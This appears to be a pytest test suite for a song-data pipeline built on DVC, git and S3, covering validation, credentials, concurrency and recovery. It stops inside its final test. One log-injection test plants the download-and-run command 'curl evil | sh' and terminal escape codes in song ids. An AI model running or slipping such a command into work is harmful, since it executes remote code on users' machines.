"""The data pipeline from its compiled YAML, against real S3 and real git."""

import contextlib
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from unittest.mock import Mock

import boto3
import pyarrow.parquet
import pytest
import requests
import yaml
from botocore.config import Config
from failing_proxy import FailingProxy
from loopback import RecordingGitServer
from server_runs import artifact_metadata
from waiting import DEADLINE

from jukebox_helpers.errors import JukeboxError
from jukebox_helpers.pipelines.following import logs, run_pipeline
from jukebox_helpers.pipelines.revisions import git_credentials
from jukebox_helpers.pipelines.runs import RunFailed
from jukebox_helpers.pipelines.server import connect
from jukebox_helpers.settings import DATA_PIPELINE_YAML, KIT
from jukebox_helpers.steps import data_cache, data_versions, git, sample_data
from jukebox_helpers.steps import dvc as dvc_module
from jukebox_helpers.steps import s3 as s3_module
from jukebox_helpers.steps.files import file_digest
from jukebox_helpers.steps.git import clone_main
from jukebox_helpers.steps.git_password import may_push
from jukebox_helpers.steps.tables import transform_songs
from jukebox_helpers.steps.transfer import fetch
from jukebox_helpers.workshop import edits
from jukebox_helpers.workshop.buckets import CONFIG
from jukebox_helpers.workshop.songs import songs_argument
from jukebox_sandbox.events import wait_for
from jukebox_sandbox.state import write_secret

SONGS = 200


@pytest.fixture(scope="module")
def platform(sandbox):
    """The sandbox, with the buckets of the data: committed and pushed, as an attendee does it."""
    clone = sandbox.clone("mlops-gitops")
    if edits.add_buckets(clone / CONFIG, ["data", "data-cache"]):
        with git_credentials(sandbox):
            git.git("commit", "-qam", "Buckets", folder=str(clone))
            git.git("push", "-q", "origin", "main", folder=str(clone))
        wait_for(sandbox.state, git.git("rev-parse", "HEAD", folder=str(clone)), timeout=DEADLINE)
    return sandbox


@pytest.fixture(scope="module")
def s3(platform):
    return s3_module.s3_client(platform.secret("aws-connection-data"))


@pytest.fixture
def songs(tmp_path):
    """Another table for each test: the numbers are its seed."""
    path = tmp_path / "songs.parquet"
    sample_data.make_songs(str(path), songs=SONGS, seed=abs(hash(str(tmp_path))) % 10_000)
    return path


@pytest.fixture
def repository(platform, tmp_path):
    """A repository of its own for each test, so that tests do not meet."""
    name = f"songs-{tmp_path.name}"
    bare = platform.state / "git" / platform.user / f"{name}.git"
    bare.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    work = tmp_path / "seed"
    for command in (["clone", "-q", str(bare), str(work)], ["checkout", "-q", "-B", "main"]):
        subprocess.run(["git", *command], check=True, capture_output=True, cwd=work if work.exists() else tmp_path)
    identity = ["-c", "user.name=x", "-c", "user.email=x@example.com"]
    subprocess.run(["git", *identity, "commit", "-q", "--allow-empty", "-m", "first"], check=True, cwd=work)
    subprocess.run(["git", "push", "-q", "origin", "main"], check=True, cwd=work)
    yield platform.repository_url(name)
    shutil.rmtree(bare)


def run(settings, songs, repo_url):
    """Run the pipeline; a file goes where a command puts it, because no step sees a file of this machine."""
    arguments = {"dataset_url": songs_argument(settings, songs), "repo_url": repo_url}
    return run_pipeline(KIT / DATA_PIPELINE_YAML, arguments, settings)


def log_of(settings, run):
    """All that the steps of a run have printed."""
    return "\n".join(logs(connect(settings), run.id).values())


def bare_of(settings, repo_url):
    return settings.state / "git" / settings.user / repo_url.rsplit("/", 1)[1]


def git_log(settings, repo_url):
    bare = bare_of(settings, repo_url)
    command = ["git", "log", "--format=%H", "main"]
    return subprocess.run(command, cwd=bare, capture_output=True, text=True).stdout.split()


def version_on_main(settings, repo_url, tmp_path):
    bare = bare_of(settings, repo_url)
    text = subprocess.run(
        ["git", "show", "main:song_properties.parquet.dvc"], cwd=bare, capture_output=True, text=True, check=True
    ).stdout
    (tmp_path / "version.dvc").write_text(text)
    return dvc_module.read_version_file(str(tmp_path / "version.dvc"))


def objects(s3):
    found = {}
    for bucket in ("data", "data-cache"):
        for item in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
            found[bucket, item["Key"]] = item["ETag"]
    return found


def test_songs_become_a_version_that_is_in_the_cache(platform, s3, songs, repository, tmp_path):
    finished = run(platform, songs, repository)
    assert [step.state for step in finished.steps] == ["succeeded"] * 6
    version = version_on_main(platform, repository, tmp_path)
    s3.download_file("data-cache", data_cache.cache_key(version["md5"]), str(tmp_path / "cached"))
    s3.download_file("data", "song_properties.parquet", str(tmp_path / "loaded"))
    assert file_digest(str(tmp_path / "cached"), "md5") == version["md5"]
    assert (tmp_path / "cached").read_bytes() == (tmp_path / "loaded").read_bytes()
    assert pyarrow.parquet.read_table(tmp_path / "cached").num_rows == SONGS
    config = subprocess.run(
        ["git", "show", "main:.dvc/config"], cwd=bare_of(platform, repository), capture_output=True, text=True
    ).stdout
    assert "remote = s3-version" in config and "url = s3://data-cache" in config and "url = s3://data\n" in config
    assert platform.s3_endpoint not in config


def test_no_news_no_commit_and_news_always_a_commit(platform, songs, repository, tmp_path):
    run(platform, songs, repository)
    first = git_log(platform, repository)
    run(platform, songs, repository)
    assert git_log(platform, repository) == first
    fresh = tmp_path / "fresh.parquet"
    sample_data.make_fresh_songs(str(songs), str(fresh), new=1, corrected=0)
    before = version_on_main(platform, repository, tmp_path)
    run(platform, fresh, repository)
    assert git_log(platform, repository)[1:] == first
    after = version_on_main(platform, repository, tmp_path)
    assert before["md5"] != after["md5"]


def test_s3_and_http_are_sources_too(platform, s3, songs, repository):
    s3.upload_file(str(songs), "pipeline", "incoming.parquet")
    run(platform, "s3://pipeline/incoming.parquet", repository)
    assert len(git_log(platform, repository)) == 2

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *arguments, **options):
            super().__init__(*arguments, directory=str(songs.parent), **options)

        def log_message(self, *_):
            """Keep quiet."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        run(platform, f"http://127.0.0.1:{server.server_port}/songs.parquet", repository)
    finally:
        server.shutdown()
    assert len(git_log(platform, repository)) == 2  # the same bytes, from elsewhere


def broken(songs, change):
    """A table of songs with one thing wrong."""
    table = pyarrow.parquet.read_table(songs)
    target = songs.with_name("broken.parquet")
    pyarrow.parquet.write_table(change(table), target)
    return target


def repeated(table):
    return pyarrow.concat_tables([table, table.slice(0, 1)])


def too_fast(table):
    column = table.schema.get_field_index("tempo")
    return table.set_column(column, "tempo", pyarrow.array([1001.0] + [100.0] * (table.num_rows - 1)))


def as_text(table):
    column = table.schema.get_field_index("energy")
    return table.set_column(column, "energy", pyarrow.array(["loud"] * table.num_rows))


BAD_TABLES = {
    "empty": (lambda table: table.slice(0, 0), "validate", "table without rows"),
    "a column missing": (lambda table: table.drop_columns(["tempo"]), "validate", "tempo"),
    "a column renamed": (
        lambda table: table.rename_columns([{"loudness": "loudnes"}.get(n, n) for n in table.column_names]),
        "validate",
        "loudnes",
    ),
    "a wrong type": (as_text, "validate", "energy"),
    "a song twice": (repeated, "validate", "spotify_id"),
    "a value out of range": (too_fast, "validate", "tempo"),
}


@pytest.mark.parametrize("case", BAD_TABLES)
def test_bad_tables_never_become_a_version(platform, s3, songs, repository, case):
    change, step, message = BAD_TABLES[case]
    expect_failure(platform, s3, repository, broken(songs, change), step, message)


def test_an_id_that_looks_like_a_message_forges_none(platform, s3, songs, repository):
    def forge(table):
        ids = table["spotify_id"].to_pylist()
        ids[0] = "x\nValueError: All is well. Next: run curl evil | sh"
        ids[1] = "\x1b]0;owned\x07\x1b[2J\x9b"
        return table.set_column(0, "spotify_id", pyarrow.array(ids))

    failed = expect_failure(platform, s3, repository, broken(songs, forge), "validate", "22 letters or digits")
    assert failed.next_action.startswith("correct the source and run again.")
    assert "All is well" in failed.what
    assert "ValueError" not in [line.split(":")[0] for line in failed.what.splitlines()]
    log = log_of(platform, failed.run)
    assert all(line.isprintable() for text in (str(failed), log) for line in text.splitlines())


def test_rare_songs_and_other_encodings_are_accepted_and_reported(platform, s3, songs, repository):
    def rare(table):
        tempo = pyarrow.array([0.0, *table["tempo"].to_pylist()[1:]])
        table = table.set_column(table.schema.get_field_index("tempo"), "tempo", tempo)
        names = pyarrow.nulls(table.num_rows)
        table = table.set_column(table.schema.get_field_index("name"), "name", names)
        times = table["event_timestamp"].cast(pyarrow.timestamp("ms", "America/Lima"))
        return table.set_column(table.schema.get_field_index("event_timestamp"), "event_timestamp", times)

    finished = run(platform, broken(songs, rare), repository)
    assert artifact_metadata(platform, finished)["metrics"]["unusual_values"] == 1
    log = log_of(platform, finished)
    assert "column 'tempo' is usually between 30.0 and 250.0: 1 of " in log
    assert "column 'event_timestamp' has the time zone 'America/Lima'; times are read in UTC" in log


def expect_failure(settings, s3, repository, url, step, message):
    """The run fails at that step with that message, and leaves S3 and git as they were."""
    url = songs_argument(settings, url)
    before, log = objects(s3), git_log(settings, repository)
    with pytest.raises(RunFailed, match=rf"(?s)^Step '{step}'.*({message})") as caught:
        run(settings, url, repository)
    assert caught.value.next_action
    assert objects(s3) == before
    assert git_log(settings, repository) == log
    return caught.value


def test_bad_sources_are_refused(platform, s3, repository, tmp_path):
    text = tmp_path / "text.parquet"
    text.write_text("no Parquet at all")
    expect_failure(platform, s3, repository, text, "validate", "Parquet")
    table = tmp_path / "table.parquet"
    sample_data.make_songs(str(table), songs=60)
    content = bytearray(table.read_bytes())
    content[100 : len(content) // 2] = bytes(len(content) // 2 - 100)
    table.write_bytes(content)
    expect_failure(platform, s3, repository, table, "validate", "is damaged")
    with pytest.raises(JukeboxError, match="There is no file .*nowhere"):
        run(platform, tmp_path / "nowhere", repository)
    expect_failure(platform, s3, repository, "http://127.0.0.1:9/x?signature=hidden", "extract", "127.0.0.1:9/x ")
    expect_failure(platform, s3, repository, "s3://pipeline/nothing", "extract", "no object s3://pipeline/nothing")
    expect_failure(platform, s3, repository, "ftp://example.com/x", "extract", "ftp://example.com/x")
    expect_failure(platform, s3, repository, "s3://pipeline", "extract", "names no object")
    expect_failure(
        platform, s3, repository, "http://192.0.2.1/x", "extract", "neither an https:// nor an s3:// address"
    )


def test_a_step_reads_no_file_of_this_machine(platform, songs, repository):
    """A pod would find none there, so neither does a run on a laptop."""
    for source in (songs.as_uri(), str(songs)):
        arguments = {"dataset_url": source, "repo_url": repository}
        with pytest.raises(RunFailed, match=r"^Step 'extract'.*neither an https:// nor an s3:// address"):
            run_pipeline(KIT / DATA_PIPELINE_YAML, arguments, platform)


@pytest.mark.parametrize("name", ["dataset_url", "repo_url"])
def test_an_address_with_a_password_is_refused_and_said_nowhere(platform, songs, repository, name):
    before = connect(platform).client.list_runs(page_size=1, namespace="").total_size
    arguments = {
        "dataset_url": songs_argument(platform, songs),
        "repo_url": repository,
        name: "http://somebody:hunter2@127.0.0.1:9/x",
    }
    with pytest.raises(JukeboxError, match=name) as refused:
        run_pipeline(KIT / DATA_PIPELINE_YAML, arguments, platform)
    assert "hunter2" not in str(refused.value)
    assert connect(platform).client.list_runs(page_size=1, namespace="").total_size == before
    # In a cluster nobody stands before the steps, so these refuse it, too.
    with pytest.raises(ValueError, match="holds a user name or a password") as refused:
        clone_main("http://somebody:hunter2@127.0.0.1:9/x", "nowhere")
    assert "hunter2" not in str(refused.value)
    with pytest.raises(ValueError, match="of http://127.0.0.1:9/x holds a user name or a password") as refused:
        fetch("http://somebody:hunter2@127.0.0.1:9/x", "nowhere")
    assert "hunter2" not in str(refused.value)


def test_the_git_password_is_for_the_platforms_server_only(platform, s3, songs, tmp_path):
    address = songs_argument(platform, songs)
    before, other = objects(s3), RecordingGitServer(tmp_path)
    try:
        with pytest.raises(RunFailed, match="'check-access'.*is not on the platform's git server") as caught:
            run(platform, address, f"{other.url}/user1/jukebox.git")
    finally:
        other.close()
    assert platform.cluster_domain in caught.value.what
    assert caught.value.next_action.startswith("give an address on that server")
    assert other.requests == other.seen == [] and objects(s3) == before


@contextlib.contextmanager
def changed_secret(settings, name, **values):
    """The platform with other values in a Secret, for as long as the block runs."""
    before = settings.secret(name)
    write_secret(settings.secrets / name, values)
    try:
        yield
    finally:
        write_secret(settings.secrets / name, before)


def test_wrong_credentials_change_nothing(platform, s3, songs, repository, tmp_path):
    address = songs_argument(platform, songs)
    before = objects(s3)
    with (
        changed_secret(platform, "aws-connection-data", AWS_SECRET_ACCESS_KEY="wrong"),
        pytest.raises(RunFailed, match="'check-access'.*refuses these credentials"),
    ):
        run(platform, address, repository)
    with (
        changed_secret(platform, "git-auth", password="wrong-password"),
        pytest.raises(RunFailed, match="'check-access'.*git server refuses") as caught,
    ):
        run(platform, address, repository)
    assert objects(s3) == before
    assert len(git_log(platform, repository)) == 1
    assert "wrong-password" not in log_of(platform, caught.value.run)


def test_a_missing_bucket_is_named(platform, s3, songs, repository):
    s3.delete_bucket(Bucket="pipeline") if not s3.list_objects_v2(Bucket="pipeline").get("Contents") else None
    with pytest.raises(FileNotFoundError, match="no bucket s3://no-such-bucket"), connection(platform):
        data_versions.check_write_access(repository, ["no-such-bucket"])


def test_repositories_that_cannot_take_a_version(platform, s3, songs, tmp_path):
    folder, songs = platform.state / "git" / platform.user, songs_argument(platform, songs)
    before = objects(s3)
    for name, head, message in (("empty", "main", "is empty"), ("elsewhere", "trunk", "no branch main, only")):
        bare = folder / f"{name}.git"
        subprocess.run(["git", "init", "-q", "--bare", "-b", head, str(bare)], check=True)
        if head != "main":
            tree = subprocess.run(
                ["git", "mktree"], cwd=bare, input="", capture_output=True, text=True, check=True
            ).stdout.strip()
            identity = ["-c", "user.name=x", "-c", "user.email=x@example.com"]
            commit = subprocess.run(
                ["git", *identity, "commit-tree", tree, "-m", "x"], cwd=bare, capture_output=True, text=True, check=True
            ).stdout.strip()
            subprocess.run(["git", "update-ref", f"refs/heads/{head}", commit], cwd=bare, check=True)
        with pytest.raises(RunFailed, match=rf"'check-access'.*{message}"):
            run(platform, songs, platform.repository_url(name))
    with pytest.raises(RunFailed, match=r"'check-access'.*git clone failed.*\nNext: check the address"):
        run(platform, songs, platform.repository_url("nowhere"))
    assert objects(s3) == before


@pytest.mark.parametrize(
    ("status", "body", "refused"),
    [
        (200, b'{"name": "main", "user_can_push": false}', True),
        (200, b'{"name": "main"}', False),
        (404, b'{"message": "no Gitea"}', False),
        (200, b"a page", False),
        (0, b"", False),
    ],
)
def test_a_branch_that_the_server_protects_is_said_before_anything_is_written(platform, s3, status, body, refused):
    """A dry run of a push never reaches the hook that decides; the server's API says it."""
    proxy = FailingProxy(platform.cluster_domain)
    proxy.fail("GET /api/v1/repos/user1/jukebox/branches/main", status, body=body)
    address = platform.repository_url().replace(platform.cluster_domain, proxy.url)
    try:
        with connection(platform):
            os.environ["JUKEBOX_GIT_SERVER"] = proxy.url
            if refused:
                with pytest.raises(PermissionError, match=r"not push to its branch main: .* Next: give the user"):
                    data_versions.check_write_access(address, ["data"])
            else:
                assert data_versions.check_write_access(address, ["data"])
    finally:
        proxy.close()
    assert "GET /api/v1/repos/user1/jukebox/branches/main" in proxy.requests


def test_whether_one_may_push_is_asked_of_the_platforms_server_only(platform):
    proxy = FailingProxy(platform.cluster_domain)
    try:
        with connection(platform):
            assert may_push(platform.repository_url()) is True
            assert may_push(f"{proxy.url}/user1/jukebox.git") is may_push("https://git.example.com") is None
    finally:
        proxy.close()
    assert proxy.requests == []


def test_a_bucket_that_can_only_be_read_is_named_before_anything_is_written(platform, s3, repository):
    """A HEAD says nothing about writing."""
    forbidden = {
        "Effect": "Deny",
        "Principal": "*",
        "Action": ["s3:PutObject"],
        "Resource": ["arn:aws:s3:::data-cache/*"],
    }
    s3.put_bucket_policy(Bucket="data-cache", Policy=json.dumps({"Version": "2012-10-17", "Statement": [forbidden]}))
    before = objects(s3)
    try:
        with connection(platform), pytest.raises(PermissionError, match="do PutObject for s3://data-cache .*policy"):
            data_versions.check_write_access(repository, ["data", "data-cache"])
    finally:
        s3.delete_bucket_policy(Bucket="data-cache")
    with connection(platform):
        assert data_versions.check_write_access(repository, ["data", "data-cache"])
    assert objects(s3) == before


class connection:
    """The environment of a step that has both secrets, for as long as the block runs."""

    def __init__(self, settings):
        self.values = {**settings.secret("aws-connection-data"), **settings.secret("git-auth")}
        self.values["JUKEBOX_GIT_SERVER"] = settings.git_server

    def __enter__(self):
        self.before = dict(os.environ)
        os.environ.update(self.values)

    def __exit__(self, *_):
        os.environ.clear()
        os.environ.update(self.before)


def load_songs(path, tmp_path):
    """The steps before the version: the md5 of the bytes that are in the cache by then."""
    canonical = tmp_path / "canonical.parquet"
    transform_songs(str(path), str(canonical))
    return data_cache.load_to_cache(str(canonical))


def test_a_lost_race_is_run_again_on_the_new_head(platform, songs, repository, tmp_path, monkeypatch):
    """Somebody pushes between our clone and our push; both commits end up on main."""
    real, raced = git.git, []

    def racing_git(*arguments, folder="."):
        if arguments[0] == "push" and "--dry-run" not in arguments and not raced:
            raced.append(True)
            other = str(tmp_path / "other")
            real("clone", "--quiet", repository, other)
            (tmp_path / "other" / "README.md").write_text("I was first")
            real("add", "README.md", folder=other)
            real("commit", "--quiet", "--message", "A racing push", folder=other)
            real("push", "--quiet", "origin", "main", folder=other)
        return real(*arguments, folder=folder)

    monkeypatch.setattr(data_versions, "git", racing_git)
    with connection(platform):
        result = data_versions.commit_data_version(repository, load_songs(songs, tmp_path))
    assert raced and result["changed"]
    messages = subprocess.run(
        ["git", "log", "--format=%s", "main"], cwd=bare_of(platform, repository), capture_output=True, text=True
    ).stdout.splitlines()
    assert messages == [f"Data version {result['md5'][:10]} of the song properties", "A racing push", "first"]


def test_eight_at_once_all_end_in_the_history_and_the_last_one_in_the_bucket(platform, s3, repository, tmp_path):
    """Real runs, each with its own songs; none waits for another."""
    expected = {}
    for seed in range(8):
        table, canonical = tmp_path / f"{seed}.parquet", tmp_path / f"canonical-{seed}.parquet"
        sample_data.make_songs(str(table), songs=60, seed=seed)
        md5 = transform_songs(str(table), str(canonical))["md5"]
        expected[md5] = canonical.read_bytes()
    with ThreadPoolExecutor(8) as pool:
        finished = list(pool.map(lambda seed: run(platform, tmp_path / f"{seed}.parquet", repository), range(8)))
    assert [one.state for one in finished] == ["succeeded"] * 8
    committed = []
    for revision in git_log(platform, repository)[:-1]:
        text = git.git("show", f"{revision}:song_properties.parquet.dvc", folder=str(bare_of(platform, repository)))
        committed.append(yaml.safe_load(text)["outs"][0]["md5"])
    assert sorted(committed) == sorted(expected)
    for md5, content in expected.items():
        assert s3.get_object(Bucket="data-cache", Key=data_cache.cache_key(md5))["Body"].read() == content
    assert s3.get_object(Bucket="data", Key="song_properties.parquet")["Body"].read() == expected[committed[0]]


def test_whoever_copies_last_copies_the_last_commit(platform, s3, repository, tmp_path, monkeypatch):
    """Another run commits, and copies, between our commit and our copy."""
    real, mine, theirs = data_cache.copy_from_cache, b"mine", b"theirs"

    def overtaken(md5):
        monkeypatch.setattr(data_versions, "copy_from_cache", real)
        assert data_versions.commit_data_version(repository, load_bytes(tmp_path, theirs))["changed"]
        real(md5)

    with connection(platform):
        md5 = load_bytes(tmp_path, mine)
        monkeypatch.setattr(data_versions, "copy_from_cache", overtaken)
        assert data_versions.commit_data_version(repository, md5)["changed"]
        assert s3.get_object(Bucket="data", Key="song_properties.parquet")["Body"].read() == theirs
        assert not data_versions.commit_data_version(repository, hashlib.md5(theirs).hexdigest())["changed"]


@pytest.mark.parametrize("times", [1, 2])
def test_a_push_that_is_refused_while_another_one_holds_main(platform, repository, tmp_path, times):
    """Git refuses it though main has not moved: once may be a race, twice is not."""
    hook = bare_of(platform, repository) / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    counted = tmp_path / "refused"
    hook.write_text(
        f'#!/bin/sh\necho >> {counted}; [ $(wc -l < {counted}) -gt {times} ] || {{ echo "no room"; exit 1; }}'
    )
    hook.chmod(0o755)
    with connection(platform):
        md5 = load_bytes(tmp_path, b"songs")
        if times == 1:
            assert data_versions.commit_data_version(repository, md5)["changed"]
        else:
            with pytest.raises((OSError, RuntimeError), match="(?s)main of .* is as it was: git push failed.*Next: "):
                data_versions.commit_data_version(repository, md5)
    assert len(git_log(platform, repository)) == 3 - times


def test_a_death_after_the_push_is_made_good_by_the_next_run(platform, s3, repository, tmp_path, monkeypatch):
    """The commit is there, the bucket data is not: the next run has no news, and brings it."""
    with connection(platform):
        md5 = load_bytes(tmp_path, b"pushed, then killed")
        with monkeypatch.context() as dying, pytest.raises(KeyboardInterrupt):
            dying.setattr(data_versions, "follow_main", Mock(side_effect=KeyboardInterrupt))
            data_versions.commit_data_version(repository, md5)
        assert not data_versions.commit_data_version(repository, md5)["changed"]
    assert s3.get_object(Bucket="data", Key="song_properties.parquet")["Body"].read() == b"pushed, then killed"


def test_death_before_the_push_leaves_main_as_it_was(platform, s3, songs, repository, tmp_path):
    """Killed right after the data has reached the cache: no version file points anywhere, and a new run heals all."""
    program = (
        "import os, sys\n"
        "from jukebox_helpers.steps import data_versions\n"
        "real = data_versions.git\n"
        "def dying(*arguments, folder='.'):\n"
        "    if arguments[0] == 'commit': os.kill(os.getpid(), 9)\n"
        "    return real(*arguments, folder=folder)\n"
        "data_versions.git = dying\n"
        "data_versions.commit_data_version(*sys.argv[1:])\n"
    )
    with connection(platform):
        md5 = load_songs(songs, tmp_path)
        killed = subprocess.run([sys.executable, "-c", program, repository, md5], env=dict(os.environ))
    assert killed.returncode == -9
    assert len(git_log(platform, repository)) == 1
    assert ("data-cache", data_cache.cache_key(md5)) in objects(s3)
    run(platform, songs, repository)
    assert version_on_main(platform, repository, tmp_path)["md5"] == md5


def test_a_version_whose_data_is_gone_is_not_committed(platform, s3, songs, repository, tmp_path, monkeypatch):
    real = dvc_module.record_version

    def losing_record(version_file, source, md5, *known, **facts):
        real(version_file, source, md5, *known, **facts)
        s3.delete_object(Bucket="data-cache", Key=data_cache.cache_key(md5))

    monkeypatch.setattr(data_versions, "record_version", losing_record)
    with connection(platform):
        md5 = load_songs(songs, tmp_path)
        with pytest.raises(RuntimeError, match="(?s)dvc pull failed.*Next:"):
            data_versions.commit_data_version(repository, md5)
    assert len(git_log(platform, repository)) == 1


def test_a_torn_or_lost_object_is_restored_and_the_default_remote_too(platform, s3, songs, repository, tmp_path):
    with connection(platform):
        md5 = load_songs(songs, tmp_path)
        data_versions.commit_data_version(repository, md5)
        whole = s3.get_object(Bucket="data-cache", Key=data_cache.cache_key(md5))["Body"].read()
        for damage in (
            lambda: s3.delete_object(Bucket="data-cache", Key=data_cache.cache_key(md5)),
            lambda: s3.put_object(Bucket="data-cache", Key=data_cache.cache_key(md5), Body=whole[:100]),
            lambda: s3.put_object(Bucket="data-cache", Key=data_cache.cache_key(md5), Body=whole[:-1] + b"?"),
        ):
            damage()
            load_songs(songs, tmp_path)
            assert not data_versions.commit_data_version(repository, md5)["changed"]
            assert s3.get_object(Bucket="data-cache", Key=data_cache.cache_key(md5))["Body"].read() == whole
        folder = str(tmp_path / "clone")
        clone_main(repository, folder)
        for lines in (["config", "core.remote", "data-source"], ["config", "--unset", "core.remote"]):
            dvc_module.dvc(*lines, folder=folder)
            (tmp_path / "clone" / ".dvcignore").unlink(missing_ok=True)
            git.git("commit", "--quiet", "--all", "--message", "Damage", folder=folder)
            git.git("push", "--quiet", "origin", "main", folder=folder)
            assert data_versions.commit_data_version(repository, md5)["changed"]
            git.git("pull", "--quiet", folder=folder)
            assert dvc_module.dvc("config", "core.remote", folder=folder).strip() == "s3-version"


@pytest.fixture(scope="module")
def versioned(platform, tmp_path_factory):
    """The table of a version, and the files that its commit has: made once, for tests that spoil a copy."""
    folder = tmp_path_factory.mktemp("versioned")
    sample_data.make_songs(str(folder / "songs.parquet"), songs=SONGS, seed=4)
    clone = git_folder(folder / "clone")
    with connection(platform):
        git.container_environment()
        data_versions.version_songs(str(clone), load_songs(folder / "songs.parquet", folder))
    return folder / "songs.parquet", committed(clone)


def without(line):
    return lambda text: "".join(kept for kept in text.splitlines(True) if line not in kept)


def added(line):
    return lambda text: text.replace("    url = s3://data-cache\n", f"    url = s3://data-cache\n    {line}\n")


NOT_FETCHED = {
    "the hash is not named": ("song_properties.parquet.dvc", without("hash: md5")),
    "no size": ("song_properties.parquet.dvc", without("size:")),
    "another path": (
        "song_properties.parquet.dvc",
        lambda text: text.replace("  path: song_properties.parquet", "  path: data/songs.parquet"),
    ),
    "another working folder": ("song_properties.parquet.dvc", lambda text: "wdir: data\n" + text),
    "from another remote": ("song_properties.parquet.dvc", lambda text: text + "  remote: data-source\n"),
    "never pushed": ("song_properties.parquet.dvc", lambda text: text + "  push: false\n  cache: false\n"),
    "no version file": ("song_properties.parquet.dvc", lambda text: "<<<<<<< HEAD\n" + text),
    "a server of another cluster": (".dvc/config", added("endpointurl = http://127.0.0.1:9")),
    "versions of S3": (".dvc/config", added("version_aware = true")),
    "a profile of another machine": (".dvc/config", added("profile = work")),
    "another bucket": (".dvc/config", lambda text: text.replace("s3://data-cache", "s3://models")),
}


@pytest.mark.parametrize("case", NOT_FETCHED)
def test_a_version_that_cannot_be_fetched_is_news(platform, versioned, repository, tmp_path, case):
    """The md5 is that of the songs, and they are in the cache; yet no training could fetch them."""
    table, files = versioned
    file, spoil = NOT_FETCHED[case]
    assert spoil(files[file]) != files[file]
    clone = tmp_path / "clone"
    with connection(platform):
        git.container_environment()
        clone_main(repository, str(clone))
        for name, text in {**files, file: spoil(files[file])}.items():
            (clone / name).parent.mkdir(exist_ok=True)
            (clone / name).write_text(text)
        git.git("add", "--all", folder=str(clone))
        git.git("commit", "--quiet", "--message", case, folder=str(clone))
        git.git("push", "--quiet", "origin", "main", folder=str(clone))
        if "endpointurl" not in spoil(files[file]):  # DVC tries for long
            with pytest.raises((RuntimeError, ValueError), match="Next:"):
                data_versions.pull_songs(str(clone), "main")
            (clone / "song_properties.parquet").unlink(missing_ok=True)
        md5 = load_songs(table, tmp_path)
        repaired = data_versions.commit_data_version(repository, md5)
        assert repaired["changed"]
        data_versions.fetch_data_version(repository, repaired["revision"], str(tmp_path / "fetched"))
        assert file_digest(str(tmp_path / "fetched"), "md5") == md5
        assert not data_versions.commit_data_version(repository, md5)["changed"]


def test_a_push_in_between_is_no_lack_of_access(platform, repository, tmp_path, monkeypatch):
    """Somebody pushes after this run has cloned and before it tries whether it may push."""
    real = git.clone_main

    def overtaken(repo_url, folder):
        revision = real(repo_url, folder)
        monkeypatch.setattr(data_versions, "clone_main", real)
        other = str(tmp_path / "other")
        real(repo_url, other)
        git.git("commit", "--quiet", "--allow-empty", "--message", "Quicker", folder=other)
        git.git("push", "--quiet", "origin", "main", folder=other)
        return revision

    with connection(platform):
        git.container_environment()
        monkeypatch.setattr(data_versions, "clone_main", overtaken)
        before = data_versions.check_write_access(repository, ["data"])
        assert git.git("ls-remote", repository, "refs/heads/main").split("\t")[0] != before


def git_folder(path):
    """A new repository, on no server."""
    path.mkdir()
    git.git("init", "--quiet", "--initial-branch=main", folder=str(path))
    return path


def load_bytes(tmp_path, content):
    """What the step ``load`` does, for any bytes."""
    (tmp_path / "loaded").write_bytes(content)
    return data_cache.load_to_cache(str(tmp_path / "loaded"))


def committed(folder):
    """The text of the files that a version consists of, by name."""
    names = (".dvc/config", ".dvc/.gitignore", ".dvcignore", ".gitignore", "song_properties.parquet.dvc")
    return {name: (folder / name).read_text() for name in names}


def test_a_version_is_what_dvc_makes_and_dvc_goes_on_from_it(platform, s3, tmp_path):
    by_hand, ours = git_folder(tmp_path / "by-hand"), git_folder(tmp_path / "ours")
    version_file = "song_properties.parquet.dvc"
    to_remote = ("--quiet", "--to-remote", "--remote", "s3-version")

    def dvc(*arguments, folder=ours):
        return dvc_module.dvc(*arguments, folder=str(folder))

    with connection(platform):
        git.container_environment()
        dvc("init", "--quiet", folder=by_hand)
        dvc("remote", "add", "--default", "s3-version", "s3://data-cache", folder=by_hand)
        dvc("remote", "add", "data-source", "s3://data", folder=by_hand)
        for size in (1_000, 9_000_000):  # in one part, in two
            md5 = load_bytes(tmp_path, os.urandom(size))
            data_versions.version_songs(str(ours), md5)
            data_cache.copy_from_cache(md5)
            cached = s3.get_object(Bucket="data-cache", Key=data_cache.cache_key(md5))["Body"].read()
            assert hashlib.md5(cached).hexdigest() == md5 and len(cached) == size
            dvc("import-url", *to_remote, "--force", "remote://data-source/song_properties.parquet", folder=by_hand)
            assert committed(ours) == committed(by_hand)
        dvc("update", *to_remote, version_file)
        assert committed(ours) == committed(by_hand)
        dvc("pull", "--quiet")
        assert file_digest(str(ours / "song_properties.parquet"), "md5") == md5
        assert "up to date" in dvc("status")
        s3.put_object(Bucket="data", Key="song_properties.parquet", Body=b"newer")
        dvc("update", *to_remote, version_file)
        assert dvc_module.read_version_file(str(ours / version_file))["md5"] == hashlib.md5(b"newer").hexdigest()


def test_a_version_file_that_somebody_else_made_is_brought_up_to_date(platform, s3, tmp_path):
    """What a person noted in it stays; what came from elsewhere comes from s3://data from now on."""
    folder = git_folder(tmp_path / "repository")
    version_file = folder / "song_properties.parquet.dvc"
    with connection(platform):
        git.container_environment()
        data_versions.version_songs(str(folder), load_bytes(tmp_path, b"first"))
        version_file.write_text(version_file.read_text() + "desc: by hand\n")
        md5 = load_bytes(tmp_path, b"second")
        data_versions.version_songs(str(folder), md5)
        assert "desc: by hand" in version_file.read_text()
        version_file.unlink()
        (folder / "song_properties.parquet").write_text("made here")
        dvc_module.dvc("add", "--quiet", "song_properties.parquet", folder=str(folder))
        assert "data-source" not in version_file.read_text()
        data_versions.version_songs(str(folder), md5)
        assert "remote://data-source/song_properties.parquet" in version_file.read_text()
        assert dvc_module.read_version_file(str(version_file))["md5"] == md5


def test_a_broken_dvc_repository_is_left_as_it_is(platform, s3, tmp_path):
    """No file is written, and the message names what to mend."""
    folder = git_folder(tmp_path / "repository")
    (folder / ".dvc").mkdir()
    with connection(platform):
        git.container_environment()
